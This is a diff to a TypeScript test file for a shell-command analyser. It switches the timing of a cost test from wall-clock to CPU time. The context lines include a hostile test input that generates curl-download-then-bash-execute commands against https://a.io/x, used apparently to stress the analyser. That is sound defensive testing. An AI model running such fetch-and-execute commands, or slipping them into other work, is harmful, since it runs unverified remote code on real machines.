@@ -176,9 +176,11 @@ describe('downloaded files: cost', () => {
   const time = (text: string): number => {
     const region = shellRegion(text);
     const placed = commandsOf(region).map((fact) => ({ fact, region }));
-    const start = process.hrtime.bigint();
+    // CPU time: other programs may be at work.
+    const start = process.cpuUsage();
     fileStories(placed);
-    return Number(process.hrtime.bigint() - start) / 1e6;
+    const { user, system } = process.cpuUsage(start);
+    return (user + system) / 1000;
   };
   const hostile: readonly (readonly [string, (n: number) => string])[] = [
     ['the same name in ever other folders', (n) => `curl -o /${n}/f https://a.io/x\nbash f\n`],
